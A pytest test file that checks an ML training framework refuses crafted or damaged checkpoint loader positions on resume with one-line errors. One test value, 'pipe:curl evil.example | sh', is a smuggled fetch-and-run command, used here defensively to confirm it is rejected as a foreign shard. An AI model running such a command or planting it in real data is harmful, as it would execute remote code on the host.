"""Crafted or damaged run directories and what a resume reports: a loader position that the checkpoint's
steps could not have consumed is refused in one line before any sample is replayed; a disk filling up
during a save keeps the previous checkpoint and says so; a finished run says there is nothing to do and
a resumed one reports what this process ran."""

from __future__ import annotations

import errno
import json
from pathlib import Path

import pytest
import torch
import yaml
from runkit import copy_run, reseal, small

from mmpt.cli import main as cli_main
from mmpt.config import load_config
from mmpt.registry import ConfigError
from mmpt.train.loop import train


@pytest.fixture(scope="module")
def finished(color_shards: list[str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished 4-step run (checkpoints at steps 2 and 4, one data worker)."""
    run = tmp_path_factory.mktemp("hardening") / "run"
    train(load_config(small(color_shards, run)))
    return run


def _edit_loader(ckpt: Path, **changes: object) -> None:
    path = ckpt / "rank_0.json"
    state = json.loads(path.read_text())
    state["loader"].update(changes)
    path.write_text(json.dumps(state))
    reseal(ckpt)


# (loader keys changed, the key the refusal names): 4 steps x 8 samples drew 32 samples per rank.
CRAFTED = [
    pytest.param({"consumed": [10**9]}, r"loader.consumed\[0\]: 1000000000 raw samples", id="consumed_huge"),
    pytest.param({"consumed": [5000]}, r"loader.consumed\[0\]: 5000 raw samples", id="consumed_too_many"),
    pytest.param({"consumed": [1e9]}, r"loader.consumed\[0\]: expected a non-negative integer", id="consumed_float"),
    pytest.param({"consumed": [-1]}, r"loader.consumed\[0\]: expected a non-negative integer", id="consumed_negative"),
    pytest.param({"consumed": [3, 3]}, r"loader.consumed: 2 data workers, this run has 1", id="workers"),
    pytest.param({"skips": [{"decode_error_image": 10**6}]}, r"loader.skips\[0\].decode_error_image: 1000000 skipped",
                 id="skips_over_consumed"),
    pytest.param({"batches": "many"}, r"loader.batches: expected a non-negative integer", id="batches"),
    pytest.param({"shards": [{"truncated_shard": ["pipe:curl evil.example | sh"]}]},
                 r"loader.shards\[0\].truncated_shard: 'pipe:curl evil.example \| sh' is not one of the configured "
                 r"shards", id="foreign_shard"),
]


@pytest.mark.timeout(120)  # today's code replays the crafted position: a hang must fail, not stall the suite
@pytest.mark.parametrize(("changes", "message"), CRAFTED)
def test_crafted_loader_position_is_refused_in_one_line(finished: Path, color_shards: list[str], tmp_path: Path,
                                                        changes: dict, message: str) -> None:
    run = copy_run(finished, tmp_path / "run")
    ckpt = run / "checkpoints" / "step_00000004"
    _edit_loader(ckpt, **changes)
    with pytest.raises(ConfigError, match=rf"{ckpt / 'rank_0.json'}: {message}") as info:
        train(load_config(small(color_shards, run, steps=6)), resume="latest")
    assert "\n" not in str(info.value)


def test_honest_loader_position_with_skips_resumes(finished: Path, color_shards: list[str], tmp_path: Path) -> None:
    """Skipped samples add to what a worker may have consumed; shard events of the configured shards pass."""
    run = copy_run(finished, tmp_path / "run")
    ckpt = run / "checkpoints" / "step_00000004"
    consumed = json.loads((ckpt / "rank_0.json").read_text())["loader"]["consumed"][0]
    _edit_loader(ckpt, consumed=[consumed + 7], skips=[{"decode_error_image": 7}],
                 shards=[{"truncated_shard": [color_shards[1]]}])
    summary = train(load_config(small(color_shards, run, steps=5)), resume="latest")
    assert summary.steps == 5 and summary.skips["decode_error_image"] == 7
